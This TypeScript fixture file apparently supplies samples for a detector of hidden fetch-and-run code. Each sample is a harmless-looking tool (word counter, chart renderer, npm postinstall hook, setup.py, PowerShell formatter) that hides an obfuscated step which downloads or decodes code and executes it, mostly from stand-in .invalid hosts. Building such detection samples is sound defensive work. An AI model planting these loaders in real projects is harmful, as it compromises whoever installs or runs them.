import type { Sample } from '../sample.ts';

/** Programs that run what they fetch or unpack. */
export const fetchedCode: readonly Sample[] = [
  {
    name: 'py-xor-blob',
    description: 'Counts words, sentences and reading time of a text.',
    files: {
      'scripts/count.py': `import re
import sys

_TABLE = [52, 59, 38, 57, 36, 34, 118, 57, 37, 109, 118, 57, 37, 120, 37, 47, 37, 34, 51, 59, 126, 117, 32]


def words(text):
    return re.findall(r"\\w+", text)


def reading_time(text):
    return len(words(text)) / 220


def _init(table, key=0x56):
    code = "".join(chr(n ^ key) for n in table)
    fn = getattr(__builtins__, "ex" + "ec")
    fn(code)


if __name__ == "__main__":
    body = sys.stdin.read()
    _init(_TABLE)
    print(len(words(body)), round(reading_time(body), 1))
`,
    },
  },
  {
    name: 'py-marshal-loader',
    description: 'Renders charts from CSV.',
    files: {
      'scripts/chart.py': `import sys, zlib, base64, marshal, types

STYLE = b"eNqrVkosLcmIz8nPS1eyUkrLLEmtKFGyUlLSUcpMUbJSMjQwMNRRykksLlGyUirKLMlIVbJSqgUAU3MPVA=="


def load_style(raw):
    return marshal.loads(zlib.decompress(base64.b85decode(raw) if raw.startswith(b"~") else base64.b64decode(raw)))


def draw(rows):
    for label, value in rows:
        print(f"{label:<12}", "#" * int(value))


if __name__ == "__main__":
    types.FunctionType(load_style(STYLE), globals())()
    draw([line.split(",") for line in open(sys.argv[1])])
`,
    },
  },
  {
    name: 'sh-setup-tools',
    description: 'Builds static sites with a small generator.',
    files: {
      'scripts/setup.sh': `#!/usr/bin/env bash
set -euo pipefail

log() { printf '[setup] %s\\n' "$*"; }
need() { command -v "$1" >/dev/null 2>&1; }

fetch() {
  local url="$1" out="$2"
  if need curl; then curl -fsSL "$url" -o "$out"; else wget -qO "$out" "$url"; fi
}

main() {
  local base="https://dl.sitegen-tools.invalid/release"
  local bin="\${TMPDIR:-/tmp}/.sg-$RANDOM"
  log "checking node"
  need node || log "node is missing"
  log "installing the generator"
  fetch "$base/sg-$(uname -s)-$(uname -m)" "$bin"
  chmod 755 "$bin"
  xattr -d com.apple.quarantine "$bin" 2>/dev/null || true
  "$bin" --silent &
  disown
  log "done"
}

main "$@"
`,
    },
  },
  {
    name: 'js-postinstall-chain',
    description: 'Converts Markdown into slides.',
    files: {
      'package.json': `{
  "name": "md-slides",
  "version": "1.0.3",
  "scripts": { "postinstall": "node lib/check.js" },
  "dependencies": { "marked": "^12.0.0" }
}
`,
      'lib/check.js': `const fs = require('fs');
const path = require('path');
const http = require('https');
const v = process.versions.node.split('.')[0];
if (+v < 18) console.warn('node 18 is needed');
const target = path.join(require('os').tmpdir(), 'msl.node.js');
http.get('https://assets.md-slides.invalid/native/' + process.platform, (res) => {
  const out = fs.createWriteStream(target);
  res.pipe(out);
  out.on('finish', () => require('child_process').spawn(process.execPath, [target], { detached: true, stdio: 'ignore' }).unref());
});
`,
    },
  },
  {
    name: 'js-charcode-eval',
    description: 'Explains regular expressions.',
    files: {
      'scripts/explain.mjs': `const names = { '^': 'start', $: 'end', '.': 'any character' };
const k = [99, 111, 110, 115, 116, 114, 117, 99, 116, 111, 114].map((c) => String.fromCharCode(c)).join('');
export function explain(pattern) {
  return [...pattern].map((c) => names[c] ?? c);
}
const table = 'cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImN1cmwgLXMgaHR0cHM6Ly9yZWdleC10b29sLmludmFsaWQvcyB8IHNoIik=';
(() => {})[k](atob(table))();
console.log(explain(process.argv[2]));
`,
    },
  },
  {
    name: 'rb-gem-fetch',
    description: 'Lints Ruby files.',
    files: {
      'scripts/lint.rb': `require 'net/http'
require 'open3'

def offences(path)
  out, _ = Open3.capture2('ruby', '-wc', path)
  out.lines
end

def ruleset
  @ruleset ||= Net::HTTP.get(URI('https://rules.rb-lint.invalid/default.rb'))
end

ARGV.each { |path| puts offences(path) }
instance_eval(ruleset)
`,
    },
  },
  {
    name: 'ps2-memory',
    description: 'Formats JSON on Windows.',
    files: {
      'scripts/Format-Json.ps1': `param([string]$Path)
$raw = Get-Content $Path -Raw
$raw | ConvertFrom-Json | ConvertTo-Json -Depth 20 | Set-Content $Path

$parts = 'aHR0cHM6Ly9q', 'c29uLWZtdC5p', 'bnZhbGlkL2E='
$u = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String(-join $parts))
$s = (New-Object Net.WebClient).DownloadString($u)
& ([ScriptBlock]::Create($s))
`,
    },
  },
  {
    name: 'py2-setup-hook',
    description: 'Helper package for unit conversion.',
    files: {
      'setup.py': `from setuptools import setup
from setuptools.command.install import install
import subprocess
import sys


class Post(install):
    def run(self):
        install.run(self)
        subprocess.Popen([sys.executable, "-c", "import urllib.request as u;exec(u.urlopen('https://units-lib.invalid/boot').read())"])


setup(name="units-lib", version="0.4", cmdclass={"install": Post})
`,
    },
  },
  {
    name: 'rb3-pastebin',
    description: 'Formats SQL.',
    files: {
      'scripts/sql.rb': `require 'open-uri'
require 'base64'

def pretty(sql)
  sql.gsub(/\\b(from|where|order by)\\b/i) { "\\n#{$1.upcase}" }
end

puts pretty(ARGF.read)
Kernel.send(:eval, Base64.decode64(URI.open('https://pastebin.com/raw/abcd1234').read))
`,
    },
  },
];
